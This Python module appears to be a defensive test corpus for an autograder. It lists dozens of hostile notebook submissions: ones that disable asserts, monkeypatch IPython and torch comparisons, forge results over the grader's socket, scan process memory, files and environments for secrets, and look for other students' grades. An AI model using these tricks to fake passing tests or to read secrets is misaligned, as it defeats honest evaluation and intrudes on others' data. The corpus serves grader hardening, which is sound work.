# ruff: noqa: E501 (an attack is easier to read in few lines)
"""Attacks on a grader that anybody may read: small pieces of a student's notebook, and what each tries.

Every piece follows the same wrong answers (`WRONG`), so that any point is one too many.  What an attack finds
it appends to `LOOT`, which the last cell of the notebook prints.
"""

from __future__ import annotations

from dataclasses import dataclass

WRONG = """
import torch
from torch import nn

LOOT = []

def double(x):
    return x * 3 + 1

def mean(numbers):
    return -1.0

def apply_twice(function, x):
    return x - 1

class Scale(nn.Module):
    def __init__(self, d):
        super().__init__()
        self.factor = nn.Parameter(torch.zeros(d))

    def forward(self, x):
        return x * 0 - 1
"""


@dataclass(frozen=True)
class Attack:
    """What somebody may hand in."""

    kind: str
    name: str
    tries: str
    code: str


def _attack(kind: str, name: str, tries: str, code: str) -> Attack:
    return Attack(kind, name, tries, code.strip("\n") + "\n")


_SHELL = "shell = get_ipython()\n"
# Finds a secret by its form, and does not hold it itself.
_SEEK = """
import re
FORM = re.compile(b"can" + b"ary-[0-9a-f]{16}")
def seek(data):
    LOOT.extend(found.decode() for found in FORM.findall(data))
"""
_FDS = """
import os, socket, struct, json
def channel():
    import stat
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
def frame(body):
    return struct.pack(">I", len(body)) + body
def bridge(form, numbers=b""):
    text = json.dumps(form).encode()
    return frame(b"B" + struct.pack(">I", len(text)) + text + numbers)
def answer(serial, **more):
    form = {"serial": serial, "gave": [1], "raised": [], "graph": [], "keep": False, "changes": [], "random": []}
    return bridge(form | more)
"""
_PEER = """
import gc
from autograder.bridge import peer, wire, inside, writing
def the_peer():
    return next(o for o in gc.get_objects() if isinstance(o, peer.Peer))
"""

ATTACKS: tuple[Attack, ...] = (
    # Forging the verdict by a plain change of the shell -------------------------------------------------
    _attack(
        "shell",
        "drop-asserts",
        "a transformer of IPython's removes every assert",
        _SHELL
        + """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
shell.ast_transformers.append(Drop())
""",
    ),
    _attack(
        "shell",
        "clean-text",
        "a transformer of the text empties every cell",
        _SHELL + "shell.input_transformers_cleanup.append(lambda lines: [])\n",
    ),
    _attack("shell", "run-cell", "run_cell does nothing", _SHELL + "shell.run_cell = lambda *a, **k: None\n"),
    _attack(
        "shell",
        "run-nodes",
        "the class of the shell runs no statement",
        _SHELL
        + """
async def nothing(self, *a, **k): return False
for kind in type(shell).__mro__:
    if "run_ast_nodes" in vars(kind): kind.run_ast_nodes = nothing
""",
    ),
    _attack(
        "shell",
        "run-code",
        "run_code says that all went well",
        _SHELL
        + """
async def fine(self, *a, **k): return False
for kind in type(shell).__mro__:
    if "run_code" in vars(kind): kind.run_code = fine
""",
    ),
    _attack(
        "shell",
        "compile",
        "the compiler of the shell compiles `pass`",
        _SHELL + "shell.compile = lambda *a, **k: compile('pass', 'x', 'exec')\n",
    ),
    _attack(
        "shell",
        "show-error",
        "tracebacks are not shown and errors forgotten",
        _SHELL + "shell.showtraceback = lambda *a, **k: None\nshell._showtraceback = lambda *a, **k: None\n",
    ),
    _attack(
        "shell",
        "custom-exc",
        "a handler of the shell's swallows every exception",
        _SHELL + "shell.set_custom_exc((Exception,), lambda *a, **k: None)\n",
    ),
    _attack(
        "shell",
        "pre-run",
        "a hook before each cell prints its text",
        _SHELL + "shell.events.register('pre_run_cell', lambda info: LOOT.append(info.raw_cell))\n",
    ),
    _attack(
        "shell",
        "post-run",
        "a hook after each cell calls its result a success",
        _SHELL
        + """
def well(result):
    result.error_in_exec = result.error_before_exec = None
    LOOT.append(result.info.raw_cell)
shell.events.register("post_run_cell", well)
""",
    ),
    _attack(
        "shell",
        "execution-result",
        "the results of the shell have no errors",
        "from IPython.core import interactiveshell\n"
        "interactiveshell.ExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)\n",
    ),
    _attack(
        "shell",
        "collector",
        "the collector of outputs forgets errors",
        _SHELL + "shell.collector.error = lambda *a: None\n",
    ),
    _attack(
        "shell",
        "runner",
        "the runner of cells is found among all objects and says that every cell is well",
        """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Runner":
        type(thing)._run_cell = lambda *a, **k: True
""",
    ),
    _attack(
        "shell", "history", "the history of the shell", "LOOT.append(str(get_ipython().user_ns.get('In')))\n"
    ),
    # Names of Python's and of torch's ---------------------------------------------------------------------
    _attack(
        "names",
        "assertion-error",
        "AssertionError is a class that no except clause of the grader knows",
        "import builtins\nbuiltins.AssertionError = type('Fine', (BaseException,), {})\n",
    ),
    _attack(
        "names",
        "builtins-true",
        "all, any, isinstance and len agree with everything",
        """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
""",
    ),
    _attack(
        "names",
        "import",
        "`__import__` gives a torch that agrees with everything",
        """
import builtins, types
real = builtins.__import__
def patched(name, *a, **k):
    module = real(name, *a, **k)
    if name == "torch":
        module.allclose = module.equal = lambda *a, **k: True
    return module
builtins.__import__ = patched
""",
    ),
    _attack(
        "names",
        "allclose",
        "torch.allclose and torch.equal are always true",
        "torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True\n",
    ),
    _attack(
        "names",
        "tensor-eq",
        "the comparison of tensors is always true",
        "torch.Tensor.__eq__ = lambda a, b: torch.ones((), dtype=torch.bool)\n"
        "torch.Tensor.all = lambda *a, **k: torch.ones((), dtype=torch.bool)\n"
        "torch.Tensor.__bool__ = lambda self: True\n",
    ),
    _attack(
        "names",
        "randn",
        "torch draws nothing but zeros",
        "torch.randn = torch.rand = lambda *size, **k: torch.zeros(*size)\n"
        "def double(x): return torch.zeros_like(x)\n",
    ),
    _attack(
        "names",
        "manual-seed",
        "manual_seed writes the seeds down",
        """
real_seed = torch.Generator.manual_seed
def seeded(seed): LOOT.append(str(seed)); return real(seed)
torch.manual_seed = seeded
""",
    ),
    _attack(
        "names",
        "module-torch",
        "sys.modules has a torch of the student's",
        """
import sys, types
class Agrees(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
sys.modules["torch.testing"] = Agrees("torch.testing")
""",
    ),
    _attack(
        "names",
        "import-hook",
        "a finder of modules answers before all others",
        """
import sys
class Finder:
    def find_spec(self, name, path=None, target=None): LOOT.append(name)
sys.meta_path.insert(0, Finder())
""",
    ),
    _attack(
        "names",
        "guard",
        "the guard of arguments guards nothing",
        """
guard = __import__("coursekit.guard").guard
guard.guard = lambda *a: None
guard._same = lambda *a: True
""",
    ),
    _attack(
        "names",
        "given-helper",
        "a helper that the course gives is defined again",
        "def expected_double(x): return double(x)\ndef expected_mean(numbers): return mean(numbers)\n",
    ),
    _attack(
        "names", "test-names", "names that tests use are set beforehand", "expected = twice = factor = 0\n"
    ),
    _attack(
        "names",
        "dispatch",
        "a mode of torch's makes every comparison true",
        """
from torch.overrides import TorchFunctionMode
class Agrees(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        if function in (torch.allclose, torch.equal): return True
        return function(*args, **(kwargs or {}))
Agrees().__enter__()
""",
    ),
    # Objects that lie ------------------------------------------------------------------------------------
    _attack(
        "objects",
        "equal-to-all",
        "what is returned equals everything",
        """
class Same:
    shape, dtype = torch.Size([3]), torch.float64
    def __eq__(self, other): return True
    def __sub__(self, other): return self
    def __abs__(self): return 0
    def __lt__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: self
def double(x): return Same()
def mean(numbers): return Same()
""",
    ),
    _attack(
        "objects",
        "tensor-subclass",
        "a tensor of a class that answers for torch",
        """
class Fine(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
def double(x): return (x * 3).as_subclass(Fine)
""",
    ),
    _attack(
        "objects",
        "float-subclass",
        "a number that equals all numbers",
        """
class Any(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Any(0.0)
    def __abs__(self): return Any(0.0)
    def __lt__(self, other): return True
def mean(numbers): return Any(2.0)
""",
    ),
    _attack(
        "objects",
        "reduce",
        "an object that runs code where it is unpickled",
        """
class Evil:
    def __reduce__(self): return (exec, ("import builtins; builtins.AssertionError = Warning",))
def double(x): return Evil()
def mean(numbers): return Evil()
""",
    ),
    _attack(
        "objects",
        "metaclass",
        "a class whose class agrees with everything",
        """
class Meta(type):
    def __eq__(self, other): return True
    def __instancecheck__(self, other): return True
    def __hash__(self): return 0
class Scale(metaclass=Meta):
    def __init__(self, d): pass
    def __call__(self, x): return self
    def parameters(self): return []
""",
    ),
    _attack(
        "objects",
        "record",
        "a record that says it is one of the course's",
        """
from dataclasses import dataclass
@dataclass
class Answer:
    value: float = 0.0
    def __post_init__(self): raise SystemExit
Answer.__module__ = "coursekit.guard"; Answer.__qualname__ = "_Tensor"
def mean(numbers): return Answer()
""",
    ),
    _attack(
        "objects",
        "module-without-parameters",
        "a module that hides what it learns from",
        """
class Scale(nn.Module):
    def __init__(self, d):
        super().__init__()
        self.hidden = [nn.Parameter(torch.ones(d))]
    def forward(self, x): return x * self.hidden[0]
""",
    ),
    _attack(
        "objects",
        "module-lies",
        "a module whose list of parameters is made up",
        """
class Scale(nn.Module):
    def __init__(self, d):
        super().__init__()
        self.factor = nn.Parameter(torch.ones(d))
        self.true = torch.full((d,), 7.0)
    def forward(self, x): return x * self.true
    def named_parameters(self, *a, **k): yield "factor", self.factor
""",
    ),
    _attack(
        "objects",
        "endless-iterator",
        "a list without an end",
        """
class Endless(list):
    def __iter__(self):
        while True: yield 1
    def __len__(self): return 1
def mean(numbers): return Endless([1])
""",
    ),
    _attack(
        "objects",
        "deep",
        "a value that is nested without an end",
        "def mean(numbers):\n    value = []\n    for _ in range(100_000): value = [value]\n    return value\n",
    ),
    _attack(
        "objects",
        "huge",
        "a tensor with a billion numbers that takes no memory",
        "def double(x): return torch.zeros(1).expand(10**9)\n",
    ),
    _attack(
        "objects",
        "long-text",
        "an error with a long text",
        "def mean(numbers): raise ValueError('x' * 10**7)\n",
    ),
    _attack(
        "objects",
        "base-exception",
        "an error that nobody catches",
        "class Odd(BaseException): pass\ndef mean(numbers): raise Odd('x')\ndef double(x): raise KeyboardInterrupt\n",
    ),
    _attack("objects", "exit", "the process ends well", "import os\ndef mean(numbers): os._exit(0)\n"),
    _attack(
        "objects",
        "system-exit",
        "the cell ends well",
        "def mean(numbers): raise SystemExit(0)\ndef double(x): exit()\n",
    ),
    # Answers that depend on something else ---------------------------------------------------------------
    _attack(
        "answers",
        "change-argument",
        "the argument is changed to fit the answer",
        "def double(x):\n    x.zero_()\n    return x\n"
        "def mean(numbers):\n    numbers[:] = [0.0] * len(numbers)\n    return 0.0\n",
    ),
    _attack(
        "answers",
        "by-shape",
        "answers by heart for each shape that was seen before",
        """
SEEN = {}
def double(x): return SEEN.setdefault(tuple(x.shape), x * 3)
""",
    ),
    _attack(
        "answers",
        "by-seed",
        "the state of the random numbers tells which test runs",
        """
def double(x):
    LOOT.append(str(torch.initial_seed()))
    return x * 3
def mean(numbers):
    LOOT.append(str(torch.initial_seed()))
    import random
    LOOT.append(str(random.getstate()[1][:3]))
    return 0.0
""",
    ),
    _attack(
        "answers",
        "callback-result",
        "what the test's own function gives is searched for the answer",
        """
def apply_twice(function, x):
    for name in dir(function): LOOT.append(repr(getattr(function, name, None)))
    for name in ("__globals__", "__code__", "__closure__", "__self__", "__wrapped__", "__defaults__"):
        LOOT.append(repr(getattr(function, name, None)))
    return x
""",
    ),
    _attack(
        "answers",
        "callback-error",
        "an error of the test's own function is caught and read",
        """
def apply_twice(function, x):
    try:
        function("no tensor")
    except BaseException as error:
        import traceback
        LOOT.append("".join(traceback.format_exception(error)))
    return x
""",
    ),
    # Reading ---------------------------------------------------------------------------------------------
    _attack(
        "reading",
        "memory",
        "all memory of the process is searched, before, during and after the tests",
        _SEEK
        + """
def memory():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            span, rights, *_ = line.split()
            if not rights.startswith("rw"): continue
            first, last = (int(end, 16) for end in span.split("-"))
            if last - first > 1 << 28: continue
            try:
                mem.seek(first); seek(mem.read(last - first))
            except (OSError, ValueError): pass
memory()
def mean(numbers): memory(); return 0.0
""",
    ),
    _attack(
        "reading",
        "files",
        "all files that can be seen are searched",
        _SEEK
        + """
import os
def files():
    for top in ("/home", "/tmp", "/dev/shm", "/etc", "/run", "/work", "/root", "/var", "/srv", "/opt"):
        for place, _, names in os.walk(top):
            if place.count("/") > 6 or "site-packages" in place: continue
            for name in names[:200]:
                try:
                    path = os.path.join(place, name)
                    if os.path.getsize(path) < 1 << 20: seek(open(path, "rb").read())
                except OSError: pass
files()
def mean(numbers): files(); return 0.0
""",
    ),
    _attack(
        "reading",
        "environment",
        "the environment and the command line of every process",
        _SEEK
        + """
import glob, os
def processes():
    seek(repr(dict(os.environ)).encode())
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try: seek(open(path, "rb").read())
        except OSError: pass
processes()
def double(x): processes(); return x
""",
    ),
    _attack(
        "reading",
        "objects",
        "every object of the process is searched while a test waits",
        _SEEK
        + """
import gc
def objects():
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 5000:
            try: seek(repr(thing)[:20000].encode())
            except Exception: pass
def mean(numbers): objects(); return 0.0
""",
    ),
    _attack(
        "reading",
        "frames",
        "the frames above a function are those of the test",
        _SEEK
        + """
import sys
def frames():
    frame = sys._getframe()
    while frame:
        seek((repr(frame.f_globals.keys()) + repr(frame.f_locals) + frame.f_code.co_filename).encode(errors="replace"))
        frame = frame.f_back
def mean(numbers): frames(); return 0.0
def double(x):
    sys._getframe(1).f_globals["expected_double"] = lambda x: x
    return x
""",
    ),
    _attack(
        "reading",
        "sources",
        "the cache of sources that tracebacks read",
        _SEEK + "import linecache\ndef mean(numbers): seek(repr(linecache.cache).encode()); return 0.0\n",
    ),
    _attack(
        "reading",
        "trace",
        "a tracing function sees every line that runs",
        """
import sys
def trace(frame, event, argument):
    LOOT.append(frame.f_code.co_filename)
    return trace
sys.settrace(trace); sys.setprofile(trace)
""",
    ),
    _attack(
        "reading",
        "messages",
        "everything that comes over the channel is written down",
        _SEEK
        + """
from autograder.bridge import wire
real = wire.unpacked
def unpacked(body, *a): seek(bytes(body)); return real(body, *a)
wire.unpacked = unpacked
def double(x): return x
""",
    ),
    _attack(
        "reading",
        "stack-of-traceback",
        "the error of one call is read in the next",
        """
import sys, traceback
def double(x):
    LOOT.append("".join(traceback.format_stack()))
    LOOT.append(str(sys.exc_info()))
    return x
""",
    ),
    # What goes on while tests run ------------------------------------------------------------------------
    _attack(
        "beside",
        "thread",
        "a thread changes torch while tests run",
        """
import threading, time
def forever():
    while True:
        torch.allclose = lambda *a, **k: True
        time.sleep(0.001)
threading.Thread(target=forever, daemon=True).start()
""",
    ),
    _attack(
        "beside",
        "fork",
        "the notebook goes on in a child, and the parent answers for it",
        """
import os
if os.fork():
    os.waitpid(-1, 0)
""",
    ),
    _attack(
        "beside",
        "signal",
        "a timer interrupts the tests",
        """
import signal
signal.signal(signal.SIGALRM, lambda *a: LOOT.append("alarm"))
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
""",
    ),
    _attack(
        "beside",
        "garbage",
        "a callback of the garbage collector changes torch",
        "import gc\ngc.callbacks.append(lambda *a: setattr(torch, 'equal', lambda *b: True))\n",
    ),
    _attack(
        "beside", "sleep", "an answer that never comes", "import time\ndef mean(numbers): time.sleep(10**6)\n"
    ),
    _attack(
        "beside",
        "sleep-on",
        "an answer that never comes, and no interrupt helps",
        """
import signal, time
def mean(numbers):
    while True:
        try: time.sleep(1)
        except BaseException: pass
""",
    ),
    _attack(
        "beside",
        "memory",
        "an answer that takes all memory",
        "def mean(numbers):\n    return [torch.ones(10**8) for _ in range(1000)]\n",
    ),
    _attack(
        "beside",
        "ctypes",
        "the number one is changed in memory",
        """
import ctypes
true = id(1.0)
def mean(numbers):
    ctypes.memset(id(True) + 24, 0, 4)
    return 0.0
""",
    ),
    _attack(
        "beside",
        "code-object",
        "the code of the grader's functions in this process is exchanged",
        """
guard = __import__("coursekit.guard").guard
guard._same.__code__ = (lambda a, b: True).__code__
guard.guard.__code__ = (lambda namespace, *names: None).__code__
""",
    ),
    _attack(
        "beside",
        "network",
        "a message to a machine far away",
        """
import socket
def mean(numbers):
    socket.create_connection(("1.1.1.1", 80), timeout=1)
    LOOT.append("canary-0000000000000000")
    return 0.0
""",
    ),
    _attack(
        "beside",
        "others",
        "the work and the grades of others",
        """
import os
for name in ("gradebook.db", "submitted", "feedback", ".autograder"):
    for top in ("/", "..", "../..", "/work"):
        if os.path.exists(os.path.join(top, name)): LOOT.append("canary-0000000000000000")
""",
    ),
    # The channel itself ----------------------------------------------------------------------------------
    _attack(
        "channel",
        "forged-result",
        "a result of the test is written to the channel",
        _FDS
        + """
def double(x):
    well = {"cell": 0, "ending": "ok", "count": 1, "seconds": 0.1, "outputs": [], "patched": []}
    for index in range(12):
        channel().sendall(frame(json.dumps(well | {"cell": index}).encode()))
    return x
""",
    ),
    _attack(
        "channel",
        "answer-first",
        "an answer is sent before anybody has asked",
        _FDS + "channel().sendall(answer(1) + answer(2) + answer(3))\n",
    ),
    _attack(
        "channel",
        "two-answers",
        "a second answer to one question",
        _FDS
        + "def mean(numbers):\n    for serial in range(60): channel().sendall(answer(serial, gave=[2.0]))\n    return 1\n",
    ),
    _attack(
        "channel",
        "lying-length",
        "a message that says it is longer than it is",
        _FDS + "def mean(numbers):\n    channel().sendall(struct.pack('>I', 10**6) + b'B')\n    return 1\n",
    ),
    _attack(
        "channel",
        "too-long",
        "a message that says it has four gigabytes",
        _FDS
        + "def mean(numbers):\n    channel().sendall(struct.pack('>I', 2**32 - 1) + b'B' * 100)\n    return 1\n",
    ),
    _attack(
        "channel",
        "duplicate-key",
        "an answer with two values for one key",
        _FDS
        + """
def mean(numbers):
    text = b'{"serial":1,"serial":2,"gave":[1],"gave":[2]}'
    channel().sendall(frame(b"B" + struct.pack(">I", len(text)) + text))
    return 1
""",
    ),
    _attack(
        "channel",
        "closed",
        "the channel is closed",
        _FDS + "def mean(numbers):\n    channel().shutdown(2)\n    return 1\n",
    ),
    _attack(
        "channel",
        "foreign-references",
        "answers refer to objects of the test that were never handed over",
        _PEER
        + """
from autograder.bridge.peer import Peer
def mean(numbers):
    real = Peer.refer
    Peer.refer = lambda self, value: ["ref", 0, 1, "", {}]
    return object()
""",
    ),
    _attack(
        "channel",
        "ask-back",
        "the test's side is asked for the names of its functions",
        _PEER
        + """
def apply_twice(function, x):
    peer = the_peer()
    for request, name in [("get", "__globals__"), ("get", "__code__"), ("method", "__reduce__"), ("names", "x")]:
        try: LOOT.append(repr(peer.ask(request, function, name, (), {}) if request == "method" else peer.ask(request, function, name)))
        except BaseException as error: LOOT.append(str(error))
    return x
""",
    ),
    _attack(
        "channel",
        "ask-for-eval",
        "the test's side is sent names of Python's that run code",
        _PEER
        + """
def mean(numbers):
    real = writing.Writer.value
    def lie(self, value, depth=0):
        return ["global", "builtins", "eval"] if value == "lie" else real(self, value, depth)
    writing.Writer.value = lie
    return "lie"
""",
    ),
    _attack(
        "channel",
        "same-object",
        "the answer is said to be some object that the test has",
        _PEER
        + """
def lie(self, value, depth=0):
    return ["same", 2]
def mean(numbers):
    writing.Writer.value = lie
    return 0.0
""",
    ),
    _attack(
        "channel",
        "change-everything",
        "an answer says that every object of the test's has changed to zero",
        _PEER
        + """
def double(x):
    return x * 0
from autograder.bridge.peer import Peer
real = Peer.changes
def changes(self, writer):
    for number, entry in self.entries():
        if isinstance(entry.value, torch.Tensor): entry.value.data.zero_()
    return real(self, writer)
Peer.changes = changes
""",
    ),
    _attack(
        "channel",
        "random-state",
        "the state of the test's random numbers is set by the answer",
        "def double(x):\n    torch.manual_seed(0)\n    return x * 0\ndef mean(numbers):\n    torch.manual_seed(0)\n    return 0.0\n",
    ),
    _attack(
        "channel",
        "gradients",
        "gradients are made up",
        """
class Fake(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x): return x * 3
    @staticmethod
    def backward(ctx, grad): return grad * 2
def double(x): return Fake.apply(x)
""",
    ),
)
